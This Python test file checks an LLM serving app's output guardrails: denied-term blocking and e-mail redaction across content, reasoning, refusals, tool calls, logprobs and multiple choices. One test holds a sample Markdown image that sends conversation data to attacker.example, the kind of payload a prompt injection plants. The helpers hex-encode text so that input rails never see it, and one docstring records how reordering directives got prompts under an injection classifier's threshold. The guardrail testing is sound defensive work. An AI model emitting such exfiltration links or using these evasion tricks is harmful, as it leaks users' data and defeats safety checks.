"""Output rails cover every field that carries generated text, through the real Serve app.

The scripted engine is told what to say in reversed hex (``[[say-hex:...]]``), so the input rails, which
read every message, never see the denied term or the e-mail address; only the output rails
stand between them and the client. Every check reads the raw HTTP bytes (and decodes every
``bytes`` array in them), and the texts a client would rebuild from the stream.
"""

from __future__ import annotations

import json
import time

import pytest

MODEL = "scripted-guarded"
DENIED = "FORBIDDEN-WORD"  # the model's forbidden output literal
EMAIL = "john.smith@example.org"  # redacted in output
PLACEHOLDER = "<EMAIL>"
TAIL = " ".join(f"v{i}" for i in range(150))


def hx(text: str) -> str:
    return text.encode().hex()[::-1]  # the scripted engine's -hex twins read hex backwards


def directives(**kinds: str | list[str]) -> str:
    """``directives(say="a b", alt=["x"])`` -> ``[[say-hex:...]] [[alt-hex:...]]``, a delay
    first: a completions prompt is judged by the injection classifier, which reads a chunk
    ending in ``[encoded]]] [[delay-ms:5]]`` as markup commands (0.79 against 0.703 with the
    artifact of 2026-12-05; 0.59 with the delay first; the engine reads them in any order)."""
    out = []
    for kind, values in sorted(kinds.items(), key=lambda kv: kv[0] != "delay_ms"):
        for value in values if isinstance(values, list) else [values]:
            kind_name = kind.replace("_", "-")
            if kind_name == "tool":
                name, _, args = value.partition(":")
                out.append(f"[[tool-hex:{name}:{hx(args)}]]")
            elif kind_name in ("delay-ms",):
                out.append(f"[[{kind_name}:{value}]]")
            elif kind_name == "say-n":
                out.append(f"[[say-n-hex:{'|'.join(hx(v) for v in value.split('|'))}]]")
            else:
                out.append(f"[[{kind_name}-hex:{hx(value)}]]")
    return " ".join(out)


def request(script: str, *, chat: bool, stream: bool, **fields) -> tuple[str, dict]:
    if chat:
        body = {
            "model": MODEL,
            "messages": [{"role": "system", "content": script}, {"role": "user", "content": "Go on."}],
        }
        return "/v1/chat/completions", {**body, "stream": stream, **fields}
    # Completions have no system role: the script is user text, read by every input rail. A
    # line of prose gives the injection classifier words to judge: a bare run of bracketed
    # directives (each hex run folded to "[encoded]") reads to it like markup commands.
    prompt = "Write a short story about a cat.\n" + script
    return "/v1/completions", {"model": MODEL, "prompt": prompt, "stream": stream, "max_tokens": 1000, **fields}


def post(http, script: str, *, chat: bool, stream: bool, **fields) -> tuple[str, list[dict] | dict]:
    """The raw body and its parsed form (the list of stream events, or the JSON body)."""
    path, body = request(script, chat=chat, stream=stream, **fields)
    r = http.post(path, json=body)
    assert r.status_code == 200, r.text
    if not stream:
        return r.text, r.json()
    assert r.text.endswith("data: [DONE]\n\n")
    return r.text, [json.loads(b[len("data: ") :]) for b in r.text.split("\n\n") if b.startswith("data: {")]


def logprob_fields(chat: bool) -> dict:
    return {"logprobs": True, "top_logprobs": 4} if chat else {"logprobs": 4}


class Choice:
    """What a client rebuilds of one choice: each text field, the logprob entries, finish."""

    def __init__(self) -> None:
        self.texts: dict[str, str] = {}
        self.tokens: list[dict] = []
        self.finish: str | None = None

    def add_text(self, name: str, text: str | None) -> None:
        if text:
            self.texts[name] = self.texts.get(name, "") + text

    def add(self, choice: dict, chat: bool) -> None:
        holder = (choice.get("delta") or choice.get("message") or {}) if chat else choice
        for name in ("content", "reasoning", "reasoning_content", "refusal", "text"):
            self.add_text(name, holder.get(name))
        for pos, call in enumerate(holder.get("tool_calls") or []):
            fn = call.get("function") or {}
            self.add_text(f"tool{call.get('index', pos)}.name", fn.get("name"))
            self.add_text(f"tool{call.get('index', pos)}.arguments", fn.get("arguments"))
        lp = choice.get("logprobs") or {}
        if chat:
            self.tokens += lp.get("content") or []
        else:
            self.tokens += [
                {"token": t, "top": top, "offset": off}
                for t, top, off in zip(
                    lp.get("tokens") or [], lp.get("top_logprobs") or [], lp.get("text_offset") or []
                )
            ]
        self.finish = choice.get("finish_reason") or self.finish

    def token_text(self) -> str:
        return "".join(t["token"] for t in self.tokens)

    def alternatives(self) -> list[str]:
        out = []
        for t in self.tokens:
            top = t.get("top_logprobs", t.get("top")) or []
            out += [a["token"] for a in top] if isinstance(top, list) else list(top)
        return out


def rebuild(parsed, chat: bool) -> dict[int, Choice]:
    choices: dict[int, Choice] = {}
    for event in parsed if isinstance(parsed, list) else [parsed]:
        for c in event.get("choices") or []:
            choices.setdefault(c["index"], Choice()).add(c, chat)
    return choices


def visible(raw: str, parsed) -> str:
    """Everything a client can read: the raw text, every decoded ``bytes`` array, every
    rebuilt field and the concatenated tokens."""
    parts = [raw]

    def walk(value, key=None):
        if isinstance(value, dict):
            for k, v in value.items():
                walk(v, k)
        elif isinstance(value, list):
            if key == "bytes" and all(isinstance(i, int) for i in value):
                parts.append(bytes(value).decode("utf-8", "replace"))
            else:
                for v in value:
                    walk(v)

    walk(parsed)
    return "\n".join(parts)


def assert_nothing_leaks(raw: str, parsed, chat: bool) -> dict[int, Choice]:
    choices = rebuild(parsed, chat)
    seen = [visible(raw, parsed)]
    for c in choices.values():
        seen += [*c.texts.values(), c.token_text(), *c.alternatives()]
    seen_text = "\n".join(seen).lower()
    assert DENIED.lower() not in seen_text
    assert EMAIL not in seen_text and "john.smith" not in seen_text
    return choices


def assert_engine_cancelled(engine_events) -> None:
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline and not engine_events("cancelled"):
        time.sleep(0.1)
    assert engine_events("cancelled"), engine_events()
    assert not engine_events("finished")


def assert_logprobs_in_step(parsed: list[dict], field: str) -> None:
    """At every event, the tokens released so far spell a prefix of the text released so far."""
    text, tokens = "", ""
    for event in parsed:
        for c in event.get("choices") or []:
            holder = c.get("delta", c)
            text += holder.get(field) or ""
            lp = c.get("logprobs") or {}
            tokens += "".join(t["token"] for t in lp.get("content") or []) + "".join(lp.get("tokens") or [])
        assert text.startswith(tokens), (text, tokens)


BOTH = pytest.mark.parametrize("chat", [True, False], ids=["chat", "completions"])
STREAM = pytest.mark.parametrize("stream", [True, False], ids=["stream", "whole"])


@BOTH
@STREAM
def test_logprob_tokens_never_carry_blocked_text(http, engine_events, chat, stream):
    words = " ".join(f"w{i}" for i in range(30)) + f" {DENIED} " + TAIL
    raw, parsed = post(http, directives(say=words, delay_ms="5"), chat=chat, stream=stream, **logprob_fields(chat))
    (choice,) = assert_nothing_leaks(raw, parsed, chat).values()
    assert choice.finish == "content_filter"
    assert "v149" not in raw
    text = choice.texts.get("content" if chat else "text", "")
    assert text.startswith("w0 w1") if stream else text == ""
    assert text.startswith(choice.token_text())
    if stream:
        assert choice.tokens, "clean tokens before the block are released with their text"
        assert_logprobs_in_step(parsed, "content" if chat else "text")
        assert_engine_cancelled(engine_events)


@BOTH
@STREAM
def test_logprob_tokens_of_a_redacted_span_are_rewritten(http, client, chat, stream):
    text = f"reach me at {EMAIL} any time"
    raw, parsed = post(http, directives(chars=text), chat=chat, stream=stream, **logprob_fields(chat))
    (choice,) = assert_nothing_leaks(raw, parsed, chat).values()
    released = choice.texts["content" if chat else "text"]
    assert released == f"reach me at {PLACEHOLDER} any time" and choice.finish == "stop"
    # One entry per character: the span's first carries the placeholder, the rest are empty.
    assert choice.token_text() == released and len(choice.tokens) == len(text)
    span = choice.tokens[len("reach me at ") : len("reach me at ") + len(EMAIL)]
    assert [t["token"] for t in span] == [PLACEHOLDER] + [""] * (len(EMAIL) - 1)
    assert all(not (t.get("top_logprobs") or t.get("top")) for t in span)
    if chat:
        assert all(t["bytes"] == list(t["token"].encode()) for t in choice.tokens)
    else:
        offsets = [t["offset"] for t in choice.tokens]
        assert offsets == [sum(len(t["token"]) for t in choice.tokens[:i]) for i in range(len(offsets))]
    if stream and chat:  # the SDK reads the same stream
        _, body = request(directives(chars=text), chat=True, stream=True, **logprob_fields(True))
        chunks = list(client.chat.completions.create(**{k: v for k, v in body.items() if k != "stream"}, stream=True))
        tokens = [
            t.token for c in chunks if c.choices and c.choices[0].logprobs for t in c.choices[0].logprobs.content or []
        ]
        assert "".join(tokens) == released


@BOTH
@STREAM
def test_top_logprobs_alternatives_that_complete_a_match_are_dropped(http, chat, stream):
    # "WORD" is harmless after "w0" but completes the denied term after "FORBIDDEN-".
    script = directives(say="w0 w1 FORBIDDEN- x y z", alt=[DENIED, "WORD", EMAIL])
    raw, parsed = post(http, script, chat=chat, stream=stream, **logprob_fields(chat))
    (choice,) = assert_nothing_leaks(raw, parsed, chat).values()
    assert choice.finish == "stop" and choice.texts["content" if chat else "text"] == "w0 w1 FORBIDDEN- x y z"
    by_token = {t["token"]: t for t in choice.tokens}
    assert set(by_token) == {"w0", " w1", " FORBIDDEN-", " x", " y", " z"}

    def alts(entry):
        top = entry.get("top_logprobs", entry.get("top")) or []
        return [a["token"] for a in top] if isinstance(top, list) else list(top)

    assert alts(by_token[" w1"]) == [" w1", "WORD"]
    assert alts(by_token[" x"]) == [" x"]  # "FORBIDDEN-" + "WORD" is blocked in context


@STREAM
def test_tool_call_arguments_are_guarded(http, client, engine_events, stream):
    bad = '{"note": "' + " ".join(f"w{i}" for i in range(20)) + f" {DENIED} " + TAIL + '"}'
    raw, parsed = post(http, directives(tool=f"lookup:{bad}", delay_ms="5"), chat=True, stream=stream, tools=TOOLS)
    (choice,) = assert_nothing_leaks(raw, parsed, True).values()
    assert choice.finish == "content_filter" and "v149" not in raw
    if stream:
        assert choice.texts["tool0.name"] == "lookup" and choice.texts["tool0.arguments"].startswith('{"note": "w0')
        assert_engine_cancelled(engine_events)
    else:
        assert "tool_calls" not in parsed["choices"][0]["message"]  # an unfinished call is dropped
    good = '{"to": "' + EMAIL + '", "body": "hello"}'
    raw, parsed = post(http, directives(tool=f"send:{good}"), chat=True, stream=stream, tools=TOOLS)
    (choice,) = assert_nothing_leaks(raw, parsed, True).values()
    assert choice.texts["tool0.arguments"] == '{"to": "' + PLACEHOLDER + '", "body": "hello"}'
    assert choice.finish == "tool_calls"
    _, body = request(directives(tool=f"send:{good}"), chat=True, stream=stream, tools=TOOLS)
    if stream:  # the SDK rebuilds the call from the guarded pieces
        chunks = list(client.chat.completions.create(**{k: v for k, v in body.items() if k != "stream"}, stream=True))
        args = "".join(
            t.function.arguments or "" for c in chunks if c.choices for t in c.choices[0].delta.tool_calls or []
        )
        assert json.loads(args) == {"to": PLACEHOLDER, "body": "hello"}
    else:
        reply = client.chat.completions.create(**{k: v for k, v in body.items() if k != "stream"})
        assert json.loads(reply.choices[0].message.tool_calls[0].function.arguments)["to"] == PLACEHOLDER


TOOLS = [{"type": "function", "function": {"name": "lookup", "parameters": {"type": "object", "properties": {}}}}]


@STREAM
def test_reasoning_is_guarded(http, engine_events, stream):
    thoughts = " ".join(f"r{i}" for i in range(20)) + f" {DENIED} " + TAIL
    raw, parsed = post(
        http, directives(reason=thoughts, say="the visible answer", delay_ms="5"), chat=True, stream=stream
    )
    (choice,) = assert_nothing_leaks(raw, parsed, True).values()
    assert choice.finish == "content_filter"
    assert "visible answer" not in raw  # generated after the block: never sent
    if stream:
        assert choice.texts["reasoning"].startswith("r0 r1")
        assert_engine_cancelled(engine_events)
    raw, parsed = post(http, directives(reason=f"mail {EMAIL} later", say="done"), chat=True, stream=stream)
    (choice,) = assert_nothing_leaks(raw, parsed, True).values()
    assert choice.texts == {"reasoning": f"mail {PLACEHOLDER} later", "content": "done"} and choice.finish == "stop"


@STREAM
def test_refusal_is_guarded(http, stream):
    raw, parsed = post(http, directives(refusal=f"I will not say {DENIED} here"), chat=True, stream=stream)
    (choice,) = assert_nothing_leaks(raw, parsed, True).values()
    assert choice.finish == "content_filter"
    raw, parsed = post(http, directives(refusal=f"write to {EMAIL} instead"), chat=True, stream=stream)
    (choice,) = assert_nothing_leaks(raw, parsed, True).values()
    assert choice.texts["refusal"] == f"write to {PLACEHOLDER} instead" and choice.finish == "stop"


@BOTH
@STREAM
def test_every_choice_is_guarded(http, engine_events, chat, stream):
    clean = " ".join(f"c{i}" for i in range(60))
    bad = " ".join(f"w{i}" for i in range(20)) + f" {DENIED} " + TAIL
    script = directives(say_n=f"{clean}|{bad}", delay_ms="5")
    raw, parsed = post(http, script, chat=chat, stream=stream, n=2, **logprob_fields(chat))
    choices = assert_nothing_leaks(raw, parsed, chat)
    assert choices[1].finish == "content_filter" and "v149" not in raw
    if stream:
        # The block ends the whole stream: every choice ends, the engine stops.
        assert choices[0].finish == "content_filter"
        assert_logprobs_in_step(
            [e for e in parsed if e["choices"] and e["choices"][0]["index"] == 1], "content" if chat else "text"
        )
        assert_engine_cancelled(engine_events)
    else:
        assert choices[0].finish == "stop" and choices[0].texts["content" if chat else "text"] == clean
    raw, parsed = post(http, directives(say_n=f"a b c|mail {EMAIL} now"), chat=chat, stream=stream, n=2)
    choices = assert_nothing_leaks(raw, parsed, chat)
    key = "content" if chat else "text"
    assert choices[0].texts[key] == "a b c" and choices[1].texts[key] == f"mail {PLACEHOLDER} now"


@BOTH
@STREAM
def test_an_image_on_another_host_never_reaches_a_chat_ui(http, chat, stream):
    """The answer's Markdown image pointing elsewhere (what a planted instruction would ask for,
    with the conversation in its address) is rewritten before it leaves, in content and
    completion text alike, streamed or not; a local image is left as it is."""
    exfil = "![status](https://attacker.example/s.png?d=conversation-secret)"
    answer = f"Done. {exfil} Also ![logo](/static/logo.png) here."
    raw, parsed = post(http, directives(chars=answer), chat=chat, stream=stream)
    (choice,) = rebuild(parsed, chat).values()
    released = choice.texts["content" if chat else "text"]
    assert "attacker.example" not in raw and "conversation-secret" not in raw
    assert released == "Done. [external image removed] Also ![logo](/static/logo.png) here."
    assert choice.finish == "stop"
